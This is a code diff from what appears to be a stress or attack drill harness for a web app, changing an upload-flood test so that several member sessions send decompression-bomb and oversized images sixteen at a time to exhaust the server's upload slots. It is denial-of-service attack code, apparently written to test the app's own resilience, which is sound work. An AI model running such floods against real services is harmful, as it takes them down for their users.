@@ -14,6 +14,8 @@ export interface Target {
   memberCookie: string;
   /** The big question page item 4's member built. */
   bigQid: string;
+  /** Item 7's uploaders: enough members to take every upload place of the process. */
+  uploaderCookies: string[];
 }
 
 /** Outcomes by name (an HTTP status, a close code, an error code) and how often each came. */
@@ -264,7 +266,7 @@ export async function uploadAttackImages(): Promise<AttackImage[]> {
 }
 
 /** One multipart upload of an image (field `file`), as the web app sends it. */
-function sendUpload(target: Target, image: AttackImage): Promise<string> {
+function sendUpload(target: Target, cookie: string, image: AttackImage): Promise<string> {
   const boundary = `----drill${Math.random().toString(16).slice(2)}`;
   const body = Buffer.concat([
     Buffer.from(
@@ -280,7 +282,7 @@ function sendUpload(target: Target, image: AttackImage): Promise<string> {
       agent: false,
       localAddress: ATTACKER_ADDRESS,
       headers: {
-        cookie: target.memberCookie,
+        cookie,
         'content-type': `multipart/form-data; boundary=${boundary}`,
         'content-length': body.length,
       },
@@ -298,16 +300,19 @@ function sendUpload(target: Target, image: AttackImage): Promise<string> {
 }
 
 /**
- * Item 7 (issue 37): one member uploads large and decompression-bomb images as fast as the
- * server takes them, 16 at once (twice the places a process keeps for uploads), each loop
- * sending the next of uploadAttackImages' images.
+ * Item 7 (issue 37): members (target.uploaderCookies, enough of them to take all 8 places a
+ * process keeps for uploads) upload large and decompression-bomb images as fast as the server
+ * takes them, 16 at once, each loop sending the next of uploadAttackImages' images as the next
+ * member.
  */
 export function uploadFlood(images: AttackImage[]) {
   return async (target: Target, ms: number): Promise<Outcomes> => {
     const outcomes: Outcomes = {};
     let n = 0;
     await during(ms, 16, async () => {
-      tally(outcomes, await sendUpload(target, images[n++ % images.length]!));
+      const turn = n++;
+      const cookie = target.uploaderCookies[turn % target.uploaderCookies.length]!;
+      tally(outcomes, await sendUpload(target, cookie, images[turn % images.length]!));
     });
     return outcomes;
   };
